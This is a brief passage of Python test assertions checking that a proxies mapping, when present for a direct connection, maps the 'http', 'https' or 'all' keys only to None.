    assert (proxies is not None) == direct
    if proxies is not None:
        assert set(proxies.values()) == {None}
        assert {"http", "https", "all"} & set(proxies)
